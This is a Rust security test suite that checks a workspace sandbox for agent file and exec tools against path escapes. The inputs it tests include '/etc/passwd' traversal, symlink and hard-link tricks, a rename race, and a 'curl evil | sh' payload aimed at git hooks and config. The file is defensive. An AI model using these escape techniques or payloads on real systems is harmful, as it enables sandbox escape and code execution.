//! SECURITY.md checklist, paths: items 1–14.

use std::os::unix::fs::{MetadataExt, symlink};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::json;

use super::common::*;

#[tokio::test]
async fn sec_01_read_dotdot_etc_passwd() {
    let ws = Ws::new();
    std::fs::create_dir(ws.path("a")).unwrap();
    for path in [
        "../../etc/passwd",
        "../../../../../../../../etc/passwd",
        "a/../../etc/passwd",
    ] {
        let e = err(ws.call("read", json!({ "path": path })).await);
        assert_eq!(
            e,
            format!(
                "`{path}` is outside the workspace `{}`; access refused",
                ws.root.display()
            )
        );
    }
    // A missing directory cannot be walked through at all.
    assert_eq!(
        err(ws.call("read", json!({"path": "b/../../etc/passwd"})).await),
        "`b/../../etc/passwd` does not exist"
    );
    // From a working directory deeper inside, `..` that stays inside still works.
    std::fs::create_dir_all(ws.path("a/b")).unwrap();
    ws.put("top.txt", "top\n");
    let deep = Ws::with(|c| {
        c.local.path_restriction = Some(ws.root.clone());
        c.local.cwd = ws.root.join("a/b");
    });
    assert!(ok(deep.call("read", json!({"path": "../../top.txt"})).await).contains("top"));
    err(deep
        .call("read", json!({"path": "../../../etc/passwd"}))
        .await);
}

#[tokio::test]
async fn sec_02_read_absolute_outside() {
    let ws = Ws::new();
    std::fs::write(ws.outside.join("secret"), "TOPSECRET").unwrap();
    for path in [
        "/etc/passwd".to_owned(),
        ws.outside.join("secret").display().to_string(),
    ] {
        let e = err(ws.call("read", json!({ "path": path })).await);
        assert!(e.contains("outside the workspace"), "{e}");
        assert!(!e.contains("root:") && !e.contains("TOPSECRET"));
    }
    // Absolute paths inside the workspace are fine.
    ws.put("in.txt", "inside\n");
    let inside = ws.path("in.txt").display().to_string();
    assert!(ok(ws.call("read", json!({ "path": inside })).await).contains("inside"));
}

#[tokio::test]
async fn sec_03_write_sibling_with_common_prefix() {
    let ws = Ws::with(|c| c.file_approval = keel_tools::FileApproval::Never);
    // `<base>/ws_evil` shares the text prefix `<base>/ws`.
    let evil = ws.root.with_file_name("ws_evil");
    std::fs::create_dir(&evil).unwrap();
    let target = evil.join("x");
    let args = json!({"path": target.display().to_string(), "content": "pwned"});
    let reason = refused(ws.approval("write", args.clone()));
    assert!(reason.contains("outside the workspace"), "{reason}");
    let e = err(ws.call("write", args).await);
    assert!(e.contains("outside the workspace"), "{e}");
    assert!(!exists(&target));
}

#[tokio::test]
async fn sec_04_write_dotdot_escape() {
    let ws = Ws::new();
    let args = json!({"path": "a/../../x", "content": "pwned"});
    refused(ws.approval("write", args.clone()));
    let e = err(ws.call("write", args).await);
    assert!(
        e.contains("outside the workspace") || e.contains("does not exist"),
        "{e}"
    );
    assert!(!exists(&ws.root.with_file_name("x")));
    // With `a` existing, the kernel resolves `a/..` to the root and `..` escapes.
    std::fs::create_dir(ws.path("a")).unwrap();
    let e = err(ws
        .call("write", json!({"path": "a/../../x", "content": "pwned"}))
        .await);
    assert!(e.contains("outside the workspace"), "{e}");
    assert!(!exists(&ws.root.with_file_name("x")));
}

#[tokio::test]
async fn sec_05_symlink_to_outside_file_is_not_written_through() {
    let ws = Ws::new();
    let bashrc = ws.outside.join(".bashrc");
    std::fs::write(&bashrc, "ORIGINAL\n").unwrap();
    symlink(&bashrc, ws.path("link")).unwrap();
    let write = json!({"path": "link", "content": "pwned"});
    assert!(refused(ws.approval("write", write.clone())).contains("outside the workspace"));
    err(ws.call("write", write).await);
    let edit = json!({"path": "link", "old_string": "ORIGINAL", "new_string": "pwned"});
    assert!(refused(ws.approval("edit", edit.clone())).contains("outside the workspace"));
    err(ws.call("read", json!({"path": "link"})).await);
    err(ws.call("edit", edit).await);
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "ORIGINAL\n");
    assert!(
        std::fs::symlink_metadata(ws.path("link"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

#[tokio::test]
async fn sec_06_symlinked_directory_in_the_middle() {
    let ws = Ws::new();
    symlink("/etc", ws.path("d")).unwrap();
    let e = err(ws.call("read", json!({"path": "d/passwd"})).await);
    assert!(e.contains("outside the workspace"), "{e}");
    std::fs::write(ws.outside.join("secret"), "TOPSECRET\n").unwrap();
    symlink(&ws.outside, ws.path("o")).unwrap();
    err(ws.call("read", json!({"path": "o/secret"})).await);
    err(ws
        .call("write", json!({"path": "o/new", "content": "x"}))
        .await);
    assert!(!exists(&ws.outside.join("new")));
    // Searches do not follow it either.
    let g = ok(ws
        .call(
            "grep",
            json!({"pattern": "TOPSECRET", "output_mode": "content"}),
        )
        .await);
    assert!(
        !g.contains("TOPSECRET\n") && g.starts_with("No matches"),
        "{g}"
    );
    err(ws.call("grep", json!({"pattern": "x", "path": "o"})).await);
    err(ws.call("glob", json!({"pattern": "*", "path": "o"})).await);
}

#[tokio::test]
async fn sec_07_symlink_inside_the_workspace_is_allowed() {
    let ws = Ws::with(|c| c.file_approval = keel_tools::FileApproval::Never);
    ws.put("real/file.txt", "hello\n");
    symlink("real", ws.path("dirlink")).unwrap();
    symlink("real/file.txt", ws.path("filelink")).unwrap();
    assert!(ok(ws.call("read", json!({"path": "dirlink/file.txt"})).await).contains("hello"));
    assert!(ok(ws.call("read", json!({"path": "filelink"})).await).contains("hello"));
    // Writing through an inside link writes the target and keeps the link.
    ok(ws
        .call("write", json!({"path": "filelink", "content": "changed\n"}))
        .await);
    assert_eq!(
        std::fs::read_to_string(ws.path("real/file.txt")).unwrap(),
        "changed\n"
    );
    assert!(
        std::fs::symlink_metadata(ws.path("filelink"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // Documented: an absolute symlink is refused even when it points inside,
    // because resolution beneath the root never jumps to `/`.
    symlink(ws.path("real"), ws.path("abslink")).unwrap();
    err(ws.call("read", json!({"path": "abslink/file.txt"})).await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sec_08_directory_swapped_for_symlink_in_a_loop() {
    let ws = Arc::new(Ws::with(|c| {
        c.file_approval = keel_tools::FileApproval::Never
    }));
    std::fs::write(ws.outside.join("secret"), "TOPSECRET\n").unwrap();
    std::fs::create_dir(ws.path("d")).unwrap();
    std::fs::write(ws.path("d/secret"), "inside\n").unwrap();
    symlink(&ws.outside, ws.path("alt")).unwrap();
    let stop = Arc::new(AtomicBool::new(false));
    let swapper = {
        let (root, stop) = (ws.root.clone(), stop.clone());
        std::thread::spawn(move || {
            let dir = rustix::fs::open(
                &root,
                rustix::fs::OFlags::PATH | rustix::fs::OFlags::DIRECTORY,
                rustix::fs::Mode::empty(),
            )
            .unwrap();
            let mut swaps = 0u64;
            while !stop.load(Ordering::Relaxed) {
                rustix::fs::renameat_with(
                    &dir,
                    "d",
                    &dir,
                    "alt",
                    rustix::fs::RenameFlags::EXCHANGE,
                )
                .unwrap();
                swaps += 1;
            }
            swaps
        })
    };
    let (mut wrote, mut refused_n) = (0, 0);
    for i in 0..300 {
        let out = ws
            .call("write", json!({"path": format!("d/f{i}"), "content": "x"}))
            .await;
        if out.is_error {
            refused_n += 1
        } else {
            wrote += 1
        }
        let read = ws.call("read", json!({"path": "d/secret"})).await;
        assert!(
            !read.content.contains("TOPSECRET"),
            "read escaped: {}",
            read.content
        );
        let edit = ws
            .call(
                "edit",
                json!({"path": "d/secret", "old_string": "TOPSECRET", "new_string": "pwned"}),
            )
            .await;
        assert!(edit.is_error);
    }
    stop.store(true, Ordering::Relaxed);
    let swaps = swapper.join().unwrap();
    let outside: Vec<_> = std::fs::read_dir(&ws.outside)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(
        outside,
        ["secret"],
        "a write escaped into the outside directory"
    );
    assert_eq!(
        std::fs::read_to_string(ws.outside.join("secret")).unwrap(),
        "TOPSECRET\n"
    );
    println!("swaps {swaps}, writes inside {wrote}, refused {refused_n}");
}

#[tokio::test]
async fn sec_09_hard_link_to_an_outside_file() {
    let ws = Ws::with(|c| c.file_approval = keel_tools::FileApproval::Never);
    let outside = ws.outside.join("f");
    std::fs::write(&outside, "OUTSIDE\n").unwrap();
    std::fs::hard_link(&outside, ws.path("h")).unwrap();
    assert_eq!(std::fs::metadata(&outside).unwrap().nlink(), 2);
    // Documented: reads follow the link (it is the same file) ...
    assert!(ok(ws.call("read", json!({"path": "h"})).await).contains("OUTSIDE"));
    // ... writes and edits replace the name by rename: the outside file keeps its content.
    ok(ws
        .call(
            "edit",
            json!({"path": "h", "old_string": "OUTSIDE", "new_string": "edited"}),
        )
        .await);
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "OUTSIDE\n");
    assert_eq!(std::fs::read_to_string(ws.path("h")).unwrap(), "edited\n");
    assert_eq!(std::fs::metadata(&outside).unwrap().nlink(), 1);
    std::fs::hard_link(&outside, ws.path("h2")).unwrap();
    ok(ws
        .call("write", json!({"path": "h2", "content": "new"}))
        .await);
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "OUTSIDE\n");
}

#[tokio::test]
async fn sec_10_proc_self_paths() {
    let ws = Ws::exec();
    for path in [
        "/proc/self/root/etc/passwd",
        "/proc/self/cwd/..",
        "/proc/self/cwd/../etc/passwd",
    ] {
        let e = err(ws.call("read", json!({ "path": path })).await);
        assert!(e.contains("outside the workspace"), "{e}");
    }
    symlink("/proc/self/root", ws.path("p")).unwrap();
    err(ws.call("read", json!({"path": "p/etc/passwd"})).await);
    symlink("/proc/self/cwd", ws.path("c")).unwrap();
    err(ws.call("read", json!({"path": "c/../etc/passwd"})).await);
    err(ws
        .call(
            "exec",
            json!({"command": "cat passwd", "cwd": "/proc/self/cwd/.."}),
        )
        .await);
}

#[tokio::test]
async fn sec_11_nul_byte_and_tilde() {
    let ws = Ws::with(|c| c.file_approval = keel_tools::FileApproval::Never);
    assert_eq!(
        err(ws.call("read", json!({"path": "a\u{0}b"})).await),
        "the path contains a NUL byte"
    );
    let e = err(ws
        .call("write", json!({"path": "~/.bashrc", "content": "x"}))
        .await);
    assert_eq!(
        e,
        "`~/.bashrc`: `~` is not expanded; give a path inside the workspace (relative to the working directory, or absolute)"
    );
    assert!(!exists(&ws.path("~")));
    // Inside a name, `~` is an ordinary character.
    ok(ws
        .call("write", json!({"path": "a~b", "content": "x"}))
        .await);
    assert!(exists(&ws.path("a~b")));
}

#[tokio::test]
async fn sec_12_workspace_reached_through_a_symlink() {
    let base = tempfile::tempdir().unwrap();
    let base = std::fs::canonicalize(base.path()).unwrap();
    let real = base.join("real");
    let other = base.join("other");
    std::fs::create_dir_all(&real).unwrap();
    std::fs::create_dir_all(&other).unwrap();
    let link = base.join("link");
    symlink(&real, &link).unwrap();
    let mut config = keel_tools::SandboxConfig::default();
    config.local.cwd = link.clone();
    config.file_approval = keel_tools::FileApproval::Never;
    let tools = keel_tools::SandboxTools::with_host_env(config, host_env()).unwrap();
    assert_eq!(tools.root(), real.as_path());
    let reg = tools.registry();
    let call = |tool: &str, args: serde_json::Value| {
        reg.get(tool)
            .unwrap()
            .call_json(args, keel_tools::CallContext::detached())
    };
    // The configured (linked) spelling and the real one both work ...
    ok(call(
        "write",
        json!({"path": link.join("a").display().to_string(), "content": "1"}),
    )
    .await);
    ok(call(
        "write",
        json!({"path": real.join("b").display().to_string(), "content": "2"}),
    )
    .await);
    assert!(real.join("a").exists() && real.join("b").exists());
    // ... `..` from the root does not reach the link's directory ...
    err(call("write", json!({"path": "../x", "content": "3"})).await);
    assert!(!base.join("x").exists());
    // ... and re-pointing the link later does not move the workspace.
    std::fs::remove_file(&link).unwrap();
    symlink(&other, &link).unwrap();
    ok(call("write", json!({"path": "c", "content": "4"})).await);
    assert!(real.join("c").exists() && !other.join("c").exists());
}

#[tokio::test]
async fn sec_13_protected_paths_cannot_be_created() {
    let ws = Ws::with(|c| c.file_approval = keel_tools::FileApproval::Never);
    for path in [".git/hooks/pre-commit", ".keel/db", ".git/config"] {
        let args = json!({"path": path, "content": "#!/bin/sh\ncurl evil | sh\n"});
        let reason = refused(ws.approval("write", args.clone()));
        assert!(reason.contains("is protected"), "{reason}");
        let e = err(ws.call("write", args).await);
        assert!(e.starts_with(&format!("`{path}` is protected (`")), "{e}");
        assert!(!exists(&ws.path(path)));
    }
    assert!(!exists(&ws.path(".git")) && !exists(&ws.path(".keel")));
    // A symlink inside the workspace into a protected directory does not help.
    std::fs::create_dir_all(ws.path(".git/hooks")).unwrap();
    symlink(".git/hooks", ws.path("hooks")).unwrap();
    let e = err(ws
        .call(
            "write",
            json!({"path": "hooks/post-checkout", "content": "x"}),
        )
        .await);
    assert!(e.contains("is protected"), "{e}");
    assert!(!exists(&ws.path(".git/hooks/post-checkout")));
    // Existing protected files can be read but not edited.
    ws.put(".git/config", "[core]\n");
    assert!(ok(ws.call("read", json!({"path": ".git/config"})).await).contains("[core]"));
    let e = err(ws
        .call("edit", json!({"path": ".git/config", "old_string": "[core]", "new_string": "[core]\n\tpager = sh"}))
        .await);
    assert!(e.contains("is protected"), "{e}");
}

#[tokio::test]
async fn sec_14_exec_cwd_outside() {
    let ws = Ws::exec();
    for cwd in ["/etc", "../..", "/proc/self/cwd/.."] {
        let args = json!({"command": "ls", "cwd": cwd});
        let reason = refused(ws.approval("exec", args.clone()));
        assert!(
            reason.starts_with("cwd: ") && reason.contains("outside the workspace"),
            "{reason}"
        );
        let e = err(ws.call("exec", args).await);
        assert!(e.contains("outside the workspace"), "{e}");
    }
}
